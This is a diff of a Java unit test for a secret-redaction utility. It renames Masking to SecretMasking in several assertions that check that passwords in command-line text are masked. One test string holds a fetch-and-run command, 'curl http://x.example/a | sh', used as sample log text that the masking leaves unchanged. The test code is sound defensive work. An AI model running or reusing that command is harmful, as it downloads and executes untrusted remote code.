@@ -21,7 +21,7 @@ import java.util.regex.Matcher;
 import java.util.regex.Pattern;
 import java.util.zip.GZIPOutputStream;
 import org.ephemera.analyze.parse.sealed.SealedPackage;
-import org.ephemera.analyze.redact.Masking;
+import org.ephemera.analyze.redact.SecretMasking;
 import org.ephemera.analyze.testing.FixtureCalls;
 import org.ephemera.analyze.testing.FixtureResponse;
 import org.ephemera.analyze.testing.SealedPackageFixture;
@@ -149,9 +149,9 @@ class PackageRedactionTest {
                 "pa\u017f\u017fword"
             })
     void masksEachSecretNameInText(String name) {
-        assertThat(Masking.masked("app " + name + "=hunter2 --quiet")).isEqualTo("app " + name + "=[redacted] --quiet");
-        assertThat(Masking.masked("app --" + name + " hunter2")).isEqualTo("app --" + name + " [redacted]");
-        assertThat(Masking.masked("app " + name + ":hunter2")).isEqualTo("app " + name + ":[redacted]");
+        assertThat(SecretMasking.masked("app " + name + "=hunter2 --quiet")).isEqualTo("app " + name + "=[redacted] --quiet");
+        assertThat(SecretMasking.masked("app --" + name + " hunter2")).isEqualTo("app --" + name + " [redacted]");
+        assertThat(SecretMasking.masked("app " + name + ":hunter2")).isEqualTo("app " + name + ":[redacted]");
     }
 
     /** Returns the copies, written to a separate folder. */
@@ -353,11 +353,11 @@ class PackageRedactionTest {
 
     @Test
     void masksSecretsAndKeepsOtherText() {
-        assertThat(Masking.masked("jane ran app --password SECRET now"))
+        assertThat(SecretMasking.masked("jane ran app --password SECRET now"))
                 .isEqualTo("jane ran app --password [redacted] now");
         String harmless =
                 "user ran /bin/sh -c curl http://x.example/a | sh; session ecs-execute-command-0c4f9d2ab7e1563f8";
-        assertThat(Masking.masked(harmless)).isEqualTo(harmless);
+        assertThat(SecretMasking.masked(harmless)).isEqualTo(harmless);
     }
 
     @Test
